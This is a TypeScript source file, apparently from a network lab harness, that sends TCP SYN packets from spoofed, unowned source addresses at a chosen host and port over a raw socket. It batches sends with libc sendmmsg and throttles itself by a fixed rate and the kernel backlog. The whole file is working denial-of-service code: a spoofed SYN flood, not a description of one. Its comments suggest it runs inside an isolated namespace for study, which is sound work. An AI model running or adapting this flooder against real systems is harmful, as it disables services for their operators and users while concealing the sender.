// SYNs from addresses that nobody has, as fast as a node takes them in: `flood.ts TO PORT FIRST-SOURCE COUNT`, started
// inside a namespace. Prints how many were sent, which may be a few more.
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { fileURLToPath } from "node:url";
import koffi from "koffi";
import { buildFrame, ETHERNET } from "./packet.ts";

export const FLOOD = fileURLToPath(import.meta.url);

const SOURCES = 128;
const FRAMES = 32_768;
const AT_ONCE = 64;
/** About what a node gets through of them. */
const RATE_PER_MS = 50;
/** Packets for a CPU wait in one queue for all labs of the machine (net.core.netdev_max_backlog, 1,000): in a full one all lose theirs. */
const MOST_WAITING = 64;

const AF_INET = 2;
const SOCK_RAW = 3;
const IPPROTO_RAW = 255; // the packets have their own IP header
const ENOBUFS = 105;

const address = (buffer: Buffer): bigint => BigInt(koffi.address(buffer));

/** struct mmsghdr[], each with one packet and the same destination. What it points at must live as long. */
const messagesOf = (
  packets: Buffer,
  size: number,
  name: Buffer,
): { readonly messages: Buffer; readonly parts: Buffer } => {
  const [parts, messages] = [Buffer.alloc(16 * FRAMES), Buffer.alloc(64 * FRAMES)];
  for (let i = 0; i < FRAMES; i++) {
    parts.writeBigUInt64LE(address(packets) + BigInt(i * size), 16 * i);
    parts.writeBigUInt64LE(BigInt(size), 16 * i + 8);
    messages.writeBigUInt64LE(address(name), 64 * i);
    messages.writeUInt32LE(name.length, 64 * i + 8);
    messages.writeBigUInt64LE(address(parts) + BigInt(16 * i), 64 * i + 16);
    messages.writeBigUInt64LE(1n, 64 * i + 24);
  }
  return { messages, parts };
};

/** Packets that wait for any CPU. */
const waiting = (): number =>
  readFileSync("/proc/net/softnet_stat", "utf8")
    .trim()
    .split("\n")
    .flatMap((line) => line.split(" ").slice(13))
    .reduce((sum, length) => sum + Number.parseInt(length, 16), 0);

const main = (to: string, port: number, first: string, count: number): void => {
  const libc = koffi.load("libc.so.6");
  const socket = libc.func("int socket(int domain, int type, int protocol)");
  const sendmmsg = libc.func("int sendmmsg(int fd, void *messages, unsigned int count, int flags)");
  const prefix = first.slice(0, first.lastIndexOf(".") + 1);
  const low = Number(first.slice(prefix.length));
  const frames = Array.from({ length: FRAMES }, (_, i) => {
    const ends = { from: `${prefix}${low + (i % SOURCES)}`, to, sport: 1024 + i, dport: port };
    return buildFrame({ ...ends, flags: "S", seq: i * 7919 }).slice(ETHERNET);
  });
  const size = frames[0]?.length ?? 0;
  const packets = Buffer.concat(frames);
  const name = Buffer.from([AF_INET, 0, 0, 0, ...to.split(".").map(Number), ...new Array<number>(8).fill(0)]);
  const { messages, parts } = messagesOf(packets, size, name);
  const fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW) as number;
  if (fd < 0) throw new Error(`Cannot open a raw socket: errno ${koffi.errno()}`);
  const [start, idle] = [performance.now(), new Int32Array(new SharedArrayBuffer(4))];
  let sent = 0;
  for (let at = 0; sent < count; at = (at + AT_ONCE) % FRAMES) {
    while (sent > RATE_PER_MS * (performance.now() - start) || waiting() > MOST_WAITING) Atomics.wait(idle, 0, 0, 1);
    const answer = sendmmsg(fd, messages.subarray(64 * at), AT_ONCE, 0) as number;
    if (answer < 0 && koffi.errno() !== ENOBUFS) throw new Error(`Cannot send: errno ${koffi.errno()}`);
    sent += Math.max(answer, 0);
  }
  process.stdout.write(`${sent}\n`);
  assert.ok(parts.length > 0); // they are alive until here
};

if (process.argv[1] === FLOOD) {
  const [to = "", port = "", first = "", count = ""] = process.argv.slice(2);
  main(to, Number(port), first, Number(count));
}
